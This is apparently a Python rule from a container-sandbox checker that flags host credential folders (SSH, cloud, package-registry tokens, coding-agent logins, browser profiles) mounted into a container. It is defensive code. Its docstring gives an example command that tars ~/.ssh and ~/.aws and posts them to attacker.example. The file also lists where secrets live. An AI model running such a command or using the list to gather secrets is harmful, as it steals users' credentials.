"""Credentials of the host are mounted into the container.

## What it is

A bind mount of a place where tools keep secrets: `~/.ssh`, `~/.aws`, `~/.azure`, `~/.kube`,
`~/.gnupg`, `~/.docker`, `~/.config/gcloud`, `~/.config/gh`, `.netrc`, `.npmrc`, `.pypirc`,
`.git-credentials`, the logins of coding agents, browser profiles and others. `.gitconfig` counts
when it is writable, since `core.sshCommand` in it is a command that runs on the host.

## Why it is bad

Any code in the container can send them away: a postinstall script of one of a thousand
dependencies is enough. They are your rights on other machines, and they work there for as long
as nobody notices.

    tar c ~/.ssh ~/.aws | curl -s --data-binary @- https://attacker.example/

Read-only does not help, since reading is the attack. A writable mount adds a way back:
`authorized_keys`, `config` with a `ProxyCommand`, a `credsStore` program.

## What to do instead

- Git over SSH: the editor forwards the agent, which signs without giving the key away.
- Git over HTTPS: the editor forwards the credential helper; better a token for this repository.
- Clouds: short-lived tokens of one role, passed for one session.
- A login that the container needs for itself: a named volume, so that it is not the host's.

Public keys and `known_hosts` are no secrets and may be mounted.

## Under gVisor

No difference: no sandbox protects what you mount into it.

## References

- https://code.visualstudio.com/remote/advancedcontainers/sharing-git-credentials
- https://containers.dev/implementors/json_reference/
"""

from __future__ import annotations

from sandboxd._typing import TYPE_CHECKING
from sandboxd.findings import Remedy, Remove, RuleMeta, Severity
from sandboxd.rules._finding import at_value
from sandboxd.rules._mounts import host_mounts, within_workspace

if TYPE_CHECKING:
    from collections.abc import Iterator

    from sandboxd.findings import Finding
    from sandboxd.host.facts import HostFacts
    from sandboxd.model.container import Container, Mount

META = RuleMeta(
    id="credentials-mounted",
    summary="credentials of the host are mounted",
    severity=Severity.ERROR,
    since="0.1.0",
    why="any code inside can send them away, and read-only does not hinder reading",
    needs=("mounts",),
)

# Parts of a path that stand next to each other, wherever they are: `~/.ssh`, `/data/me/.ssh`.
_SECRETS = {
    ".ssh": "SSH keys",
    ".aws": "AWS credentials",
    ".azure": "Azure credentials",
    ".config/gcloud": "Google Cloud credentials",
    "AppData/Roaming/gcloud": "Google Cloud credentials",
    ".kube": "Kubernetes credentials",
    ".gnupg": "GnuPG keys",
    ".docker": "registry credentials",
    ".config/containers/auth.json": "registry credentials",
    ".config/gh": "GitHub login",
    ".config/hub": "GitHub login",
    ".config/glab-cli": "GitLab login",
    ".netrc": "logins",
    "_netrc": "logins",
    ".npmrc": "npm token",
    ".yarnrc.yml": "npm token",
    ".pypirc": "PyPI token",
    ".cargo/credentials": "crates.io token",
    ".cargo/credentials.toml": "crates.io token",
    ".gem/credentials": "RubyGems token",
    ".m2/settings.xml": "Maven credentials",
    ".gradle/gradle.properties": "Gradle credentials",
    ".terraform.d/credentials.tfrc.json": "Terraform token",
    ".git-credentials": "Git credentials",
    ".config/git/credentials": "Git credentials",
    ".pgpass": "database passwords",
    ".my.cnf": "database passwords",
    ".vault-token": "Vault token",
    ".config/op": "1Password login",
    ".password-store": "password store",
    ".local/share/keyrings": "keyring",
    "Library/Keychains": "keychain",
    ".config/sops": "sops keys",
    ".claude": "login of a coding agent",
    ".claude.json": "login of a coding agent",
    ".codex": "login of a coding agent",
    ".gemini": "login of a coding agent",
    ".mozilla": "browser profile",
    ".config/google-chrome": "browser profile",
    ".config/chromium": "browser profile",
}
_SYSTEM = {
    "/etc/shadow": "password hashes",
    "/etc/ssh": "SSH keys",
    "/etc/kubernetes": "Kubernetes credentials",
    "/etc/rancher": "Kubernetes credentials",
    "/var/lib/kubelet": "Kubernetes credentials",
}
_WHOLE = ("~/.config", "~/.local", "~/.local/share", "~/Library", "~/AppData", "~/AppData/Roaming")
_GIT_CONFIG = (".gitconfig", ".config/git", ".config/git/config")
# What lies in these folders and is no secret, and what the socket rule speaks about.
_PUBLIC = (".ssh/known_hosts", ".docker/run", ".docker/desktop", ".docker/cli-plugins")


def check(subject: Container, host: HostFacts) -> Iterator[Finding]:
    for mount, path in host_mounts(subject, host):
        what = None if within_workspace(mount, path, subject) else _secret(path, mount.value)
        if what is None:
            continue
        yield at_value(
            META,
            mount,
            f"`{mount.written}` hands the host's {what} to the container",
            path,
            remedies=(
                Remedy(
                    "remove the mount",
                    safe=False,
                    changes=(Remove(mount),),
                    caution="tools inside have to log in by themselves",
                ),
            ),
        )


def _secret(path: str, mount: Mount) -> str | None:
    """What secret lies at `path`, None if none is known."""
    if path.endswith((".pub", ".sock")) or any(_names(path, public) for public in _PUBLIC):
        return None
    if path in _WHOLE:
        return "logins of many tools"
    for folder, what in _SYSTEM.items():
        if path == folder or path.startswith(folder + "/"):
            return what
    for name, what in _SECRETS.items():
        if _names(path, name):
            return what
    if not mount.read_only and any(path.endswith("/" + name) for name in _GIT_CONFIG):
        return "Git configuration, writable,"
    return None


def _names(path: str, name: str) -> bool:
    return f"/{name}/" in f"{path}/"
